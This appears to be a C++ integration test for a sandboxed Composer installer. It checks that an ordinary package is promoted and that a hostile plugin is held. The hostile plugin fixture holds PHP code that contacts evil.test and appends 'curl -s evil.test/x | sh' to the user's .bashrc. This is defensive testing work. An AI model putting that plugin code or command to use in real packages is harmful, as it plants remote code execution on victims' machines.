// composer through the whole pipeline — sandbox, gateway, staging, verdict, promotion —
// against a packagist-style repository the test serves in its own fake internet, found in the
// project's composer.json. Composer runs no dependency's scripts, only the root's; a
// dependency's code runs at install only as a plugin the root allows, which is how the
// hostile package here gets in.
#include <catch2/catch.hpp>
#include <filesystem>

#include "tests/integration/harness.h"
#include "tests/integration/project_checks.h"
#include "tests/integration/skip.h"
#include "tests/support/ecosystem_registries.h"
#include "tests/support/fake_internet.h"

using namespace safeinstall::test;
using namespace std::chrono_literals;

namespace {

ComposerPackage base_package() {
  return {.name = "si/base",
          .version = "1.0.0",
          .files = {{"src/Base.php",
                     "<?php\nnamespace Si\\Base;\nclass Base { const NAME = 'base'; }\n"}},
          .autoload_psr4 = {{"Si\\Base\\", "src/"}}};
}

// A plugin whose activate() phones home and plants a line in the shell rc.
ComposerPackage hostile_plugin() {
  return {
      .name = "si/helper",
      .version = "1.0.0",
      .files =
          {{"src/Plugin.php",
            "<?php\nnamespace Si\\Helper;\n"
            "use Composer\\Composer; use Composer\\IO\\IOInterface;\n"
            "class Plugin implements \\Composer\\Plugin\\PluginInterface {\n"
            "  public function activate(Composer $c, IOInterface $io) {\n"
            "    foreach (['http://evil.test/collect', 'https://evil.test/collect'] as $u) {\n"
            "      $ctx = stream_context_create(['http' => ['proxy' => "
            "str_replace('http://', 'tcp://', getenv('http_proxy')), "
            "'request_fulluri' => true, 'timeout' => 10]]);\n"
            "      $r = @file_get_contents($u, false, $ctx);\n"
            "      $io->write('plugin: ' . $u . ' ' . ($r === false ? 'refused' : 'reached'));\n"
            "    }\n"
            "    file_put_contents(getenv('HOME') . '/.bashrc', \"curl -s evil.test/x | sh\\n\", "
            "FILE_APPEND);\n"
            "  }\n"
            "  public function deactivate(Composer $c, IOInterface $io) {}\n"
            "  public function uninstall(Composer $c, IOInterface $io) {}\n"
            "}\n"}},
      .require = {{"composer-plugin-api", "^2.0"}},
      .autoload_psr4 = {{"Si\\Helper\\", "src/"}},
      .type = "composer-plugin",
      .extra = {{"class", "Si\\Helper\\Plugin"}}};
}

void write_project(const Scenario& s, const std::string& require, const std::string& config) {
  host_write(s, "composer.json",
             R"({
  "name": "si/app",
  "repositories": [{"type": "composer", "url": "http://registry.test/composer"},
                   {"packagist.org": false}],
  "require": {)" +
                 require + R"(},
  "config": {"secure-http": false)" +
                 config + R"(}
})");
}

// No --allow-host: the repository in composer.json is the only place registry.test is named.
SandboxRun composer_install(const Scenario& s) {
  auto run =
      s.run({"composer", "install", "--no-interaction", "--no-progress"}, {}, kCleanCiEnv, 180s);
  UNSCOPED_INFO("composer install\nexit " << run.exit_code() << "\nstdout: " << run.result.out
                                          << "\nstderr: " << run.result.err);
  return run;
}

}  // namespace

TEST_CASE("composer install finds the project's repository and promotes vendor/ and the lock",
          "[install][composer]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_INSTALL_TEST(who, "composer", "php");
  FakeInternet net(SI_SINK_PATH);
  write_composer_registry(net.registry_root(), "http://registry.test/", {base_package()});
  Scenario s(who);
  s.run_behind(net.in_world({}));
  write_project(s, R"("si/base": "^1.0")", "");

  auto install = composer_install(s);
  CHECK(install.exit_code() == 0);
  REQUIRE(install.report.is_object());
  CHECK(install.report.at("profile") == "composer");
  CHECK(install.report.at("verdict") == "promoted");
  CHECK(contains(project_file(s, "composer.lock"), "\"name\": \"si/base\""));
  const auto* base = added_package(install.report, "Packagist", "si/base");
  REQUIRE(base != nullptr);
  CHECK(base->at("direct") == true);
  CHECK(base->at("source") == "composer.lock");
  CHECK(in_project(s, "vendor/si/base/src/Base.php"));
  auto loaded = run({"php", "-r", "require 'vendor/autoload.php'; echo \\Si\\Base\\Base::NAME;"},
                    {.cwd = s.project()});
  CHECK(loaded.out == "base");
  for (const auto& change : install.report.at("files").at("project"))
    CHECK(change.at("category") == "expected");
  CHECK_FALSE(contacted_hosts(install.report, "registry.test").empty());
  CHECK(contains(net.log(FakeInternet::Log::Registry), "GET /composer/dists/si/base-1.0.0.zip"));
  CHECK(net.sink_log().empty());
}

TEST_CASE("a composer plugin that phones home and plants a shell rc line is held",
          "[install][composer]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_INSTALL_TEST(who, "composer", "php");
  FakeInternet net(SI_SINK_PATH);
  write_composer_registry(net.registry_root(), "http://registry.test/",
                          {base_package(), hostile_plugin()});
  Scenario s(who);
  s.run_behind(net.in_world({}));
  write_project(s, R"("si/base": "^1.0", "si/helper": "^1.0")",
                R"(, "allow-plugins": {"si/helper": true})");

  auto install = composer_install(s);
  CHECK(contains(install.result.out + install.result.err,
                 "plugin: http://evil.test/collect refused"));
  CHECK(install.exit_code() == kExitSuspicious);
  REQUIRE(install.report.is_object());
  CHECK(install.report.at("verdict") == "held");
  CHECK_FALSE(in_project(s, "vendor"));
  CHECK_FALSE(in_project(s, "composer.lock"));
  check_exfiltration_contained(install, net, 2);  // evil.test:80 and :443
}
